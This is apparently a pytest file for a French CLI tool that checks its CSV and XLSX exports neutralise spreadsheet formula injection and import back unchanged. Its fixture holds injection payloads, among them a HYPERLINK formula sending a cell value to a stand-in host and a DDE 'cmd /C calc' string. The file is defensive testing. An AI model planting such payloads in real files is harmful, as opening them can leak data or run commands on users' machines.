"""Texts that a spreadsheet would run as formulas, in every csv and xlsx file stspd writes
(issue 13, item 9): the bilan (``report --format csv``), the table (``export``, csv and xlsx),
and the import gives back exactly what the export wrote."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from cli_run import run
from hypothesis import given
from hypothesis import strategies as st

from stspd_cli.spreadsheet.formulas import GUARD, guard, looks_like_formula, unguard

from .support import read_csv_rows

FIXTURE = Path(__file__).parents[1] / "report" / "fixtures" / "bourg-fictif.yaml"
HOSTILE = {
    "Action réalisée": '=HYPERLINK("https://exemple.invalid/?"&A1;"Cliquez")',
    "Action en retard": "+1+cmd|' /C calc'!A0",
    "Action abandonnée": "-2+3",
    "Plan jeunesse": "@SUM(A1:A9)",
    "Plan tranquillité": "\uff1dWEBSERVICE(1)",
    "Prévenir la délinquance des jeunes": "  =1+1",
    "Jeunes accompagnés": "'=déjà une apostrophe",
}


def _hostile(folder: Path) -> Path:
    text = FIXTURE.read_text(encoding="utf-8")
    for old, new in HOSTILE.items():
        assert old in text
        text = text.replace(f": {old}\n", f": {json.dumps(new, ensure_ascii=False)}\n")
    path = folder / "bourg.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not looks_like_formula(cell), cell


_FORMULA_TEXT = st.text(alphabet=st.sampled_from("='+-@ \t\r\n\0\uff1d\uff20a1(\u00a0"))


@given(st.one_of(_FORMULA_TEXT, st.text()))
def test_guard_is_undone_exactly_and_leaves_no_formula(text: str) -> None:
    guarded = guard(text)
    assert unguard(guarded) == text
    assert not looks_like_formula(guarded)
    assert guarded in {text, GUARD + text}


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        ("=1+1", "'=1+1"),
        ("+33 3 20 00 00 00", "'+33 3 20 00 00 00"),
        ("-", "'-"),
        ("@moi", "'@moi"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\uff1d1", "'\uff1d1"),
        (" \u00a0=1", "' \u00a0=1"),
        ("'=1", "''=1"),  # written with an apostrophe by the user: kept on import
        ("'bonjour", "'bonjour"),
        ("l'été = 3 mois", "l'été = 3 mois"),
        ("", ""),
    ],
)
def test_guarded_cells(text: str, guarded: str) -> None:
    assert guard(text) == guarded


def test_report_csv_has_no_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    strategy = _hostile(tmp_path)
    code, _out, err = run(
        capsys, "report", str(strategy), "--date", "2026-03-01", "-f", "csv", "-o", "b.csv"
    )
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(Path("b.csv").read_text("utf-8-sig")), delimiter=";"))
    _no_formula(rows)
    titles = {row[1]: row[4] for row in rows[1:]}
    assert titles["a-realisee"] == GUARD + HOSTILE["Action réalisée"]
    assert titles["a-abandonnee"] == "'-2+3"
    assert {row[3] for row in rows[1:]} == {"'@SUM(A1:A9)", "'\uff1dWEBSERVICE(1)"}


@pytest.fixture(autouse=True)
def _work(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("NO_COLOR", "1")


def test_export_csv_has_no_formula_and_imports_back_unchanged(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    strategy = _hostile(tmp_path)
    code, _out, err = run(capsys, "export", str(strategy), "-o", "t.csv")
    assert code == 0, err
    rows = read_csv_rows(Path("t.csv"))
    _no_formula(rows)
    assert any(cell == "''=déjà une apostrophe" for row in rows for cell in row)
    code, out, err = run(capsys, "import", str(strategy), "t.csv")
    assert (code, out.split(" :")[0], err) == (0, "Aucune modification", "")


def test_export_xlsx_marks_formula_texts_and_imports_back_unchanged(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from openpyxl import load_workbook  # noqa: PLC0415

    strategy = _hostile(tmp_path)
    code, _out, err = run(capsys, "export", str(strategy), "-o", "t.xlsx")
    assert code == 0, err
    book: Any = load_workbook("t.xlsx")
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and looks_like_formula(cell.value):
                    assert (cell.data_type, cell.quotePrefix) == ("s", True), cell.coordinate
                    seen.append(cell.value)
    assert HOSTILE["Action réalisée"] in seen
    assert "\uff1dWEBSERVICE(1)" in seen
    code, out, err = run(capsys, "import", str(strategy), "t.xlsx")
    assert (code, out.split(" :")[0], err) == (0, "Aucune modification", "")
